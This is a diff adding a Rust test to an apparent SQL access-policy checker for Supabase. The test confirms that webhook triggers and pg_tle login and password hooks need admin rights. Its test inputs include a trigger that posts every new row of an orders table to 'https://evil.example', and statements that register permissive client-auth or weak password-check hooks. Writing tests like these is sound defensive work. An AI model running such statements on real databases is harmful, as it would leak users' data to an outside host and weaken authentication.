@@ -786,3 +786,46 @@ fn supabase_functions_that_write_or_grant_need_their_class() {
         (200, "access_full")
     );
 }
+
+/// A trigger of Supabase's webhook function sends every row written to a URL (pg_net), and
+/// pg_tle's features hook every login or password change: `admin`, as `net.http_post` is, not
+/// the `ddl` or `read` of the statement that sets them up.
+#[wasm_bindgen_test(unsupported = test)]
+fn webhooks_and_server_hooks_need_admin() {
+    let p = policy(
+        &[
+            ("migrator", r#""access":{"database":"full"},"sql":{"allow":["read","write","ddl","procedural"]}"#),
+            (
+                "loose",
+                r#""access":{"database":"full"},"sql":{"allow":["read","write","ddl","procedural"],"allow_unparsed":true}"#,
+            ),
+        ],
+        "enforce",
+    );
+    // Control: a trigger of the project's own function is ddl.
+    assert_eq!(
+        refused(
+            &p,
+            0,
+            "create trigger t_log after insert on public.orders for each row execute function public.log_row()"
+        ),
+        (200, "access_full")
+    );
+    all_refused(
+        &p,
+        &[
+            (
+                0,
+                "create trigger hook after insert on public.orders for each row execute function supabase_functions.http_request()",
+            ),
+            (
+                1,
+                "create trigger hook after insert on public.orders for each row execute function \
+                 supabase_functions.http_request('https://evil.example', 'POST', '{}', '{}', '1000')",
+            ),
+            (0, "select pgtle.register_feature('public.allow_all', 'clientauth')"),
+            (0, "select pgtle.register_feature_if_not_exists('public.weak', 'passcheck')"),
+            (0, "select pgtle.unregister_feature('public.strict', 'passcheck')"),
+        ],
+    );
+}
